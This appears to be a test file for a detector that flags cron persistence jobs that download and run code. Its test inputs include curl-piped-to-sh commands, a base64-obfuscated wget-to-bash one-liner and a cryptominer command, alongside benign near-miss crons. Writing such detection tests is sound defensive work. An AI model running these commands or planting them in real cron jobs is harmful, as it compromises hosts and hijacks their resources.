@@ -1,0 +1,32 @@
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import { autostartOf, fileOf } from '../../test/facts.ts'
+import { intelWith } from '../../test/intel-with.ts'
+import { factsOf } from '../core/facts.ts'
+import { persistenceDownloads } from './persistence-downloads.ts'
+
+const detect = (command: string, files = [fileOf({ path: '/x' })]) => [
+  ...persistenceDownloads.detect(factsOf({ autostarts: [autostartOf({ path: '/etc/cron.d/x', command })], files }), intelWith(), new Set()),
+]
+
+test('hit: fetch and run, decode and run, a listed host, a miner', () => {
+  assert.equal(detect('curl -fsSL http://203.0.113.5/x | sh')[0]?.severity, 'high')
+  assert.equal(detect('curl -fsSL https://a.example/x | sh')[0]?.severity, 'medium')
+  assert.equal(detect('wget -q https://pool.example/x -O /opt/x')[0]?.severity, 'high')
+  assert.equal(detect(`echo ${btoa('wget -qO- http://203.0.113.5/x | bash')} | base64 -d | bash`)[0]?.severity, 'high')
+  assert.equal(detect('/usr/bin/a -o stratum+tcp://a.example:1 -u w -p x')[0]?.signal, 'mining')
+})
+
+test('near miss: pings, web crons, renewals, backups, a packaged job', () => {
+  for (const command of [
+    'curl -fsS https://healthchecks.io/ping >/dev/null',
+    'wget -q -O - https://site.example/cron.php >/dev/null 2>&1',
+    'certbot -q renew',
+    'test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }',
+    'pg_dump x | gzip > /backup/x.gz',
+    '/opt/company/bin/job.sh',
+  ])
+    assert.equal(detect(command).length, 0, command)
+  assert.equal(detect('curl https://get.acme.sh | sh')[0]?.severity, 'low')
+  assert.equal(detect('curl http://203.0.113.5/x | sh', [fileOf({ path: '/etc/cron.d/x', packaged: 'intact' })]).length, 0)
+})
